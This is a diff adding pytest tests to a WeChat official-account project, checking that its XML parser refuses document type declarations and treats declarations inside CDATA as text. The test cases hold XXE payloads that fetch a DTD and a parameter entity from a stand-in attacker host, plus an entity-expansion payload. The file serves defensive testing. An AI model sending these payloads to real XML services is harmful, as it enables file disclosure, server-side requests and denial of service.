@@ -90,6 +90,31 @@ def test_entities_and_garbage_are_refused_without_running_anything(follower, pla
     assert runs == []
 
 
+MESSAGE = ("<xml><ToUserName>gh</ToUserName><FromUserName>o-1</FromUserName><CreateTime>1</CreateTime>"
+           "<MsgType>text</MsgType><Content>{}</Content><MsgId>1</MsgId></xml>")
+
+
+@pytest.mark.parametrize("prolog", [
+    "<!DOCTYPE xml>",  # a declaration with nothing in it is refused too: the parser refuses any
+    '<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd">',
+    '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>',
+    '<!DOCTYPE xml [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
+])
+def test_the_parser_refuses_every_document_type_declaration(prolog):
+    from app.errors import InvalidRequest
+    from official_account.security import parse_xml
+
+    with pytest.raises(InvalidRequest, match="Document type and entity declarations"):
+        parse_xml('<?xml version="1.0"?>' + prolog + MESSAGE.format("x"))
+
+
+def test_a_declaration_inside_cdata_is_text():
+    from official_account.security import parse_xml
+
+    text = '<!DOCTYPE html> <!ENTITY x "y"> &amp; 你好'
+    assert parse_xml(MESSAGE.format(f"<![CDATA[{text}]]>"))["Content"] == text
+
+
 def test_xmltodict_itself_refuses_entities():
     """Defence in depth behind the declaration check: the parser wechatpy uses has entities disabled."""
     with pytest.raises(ValueError):
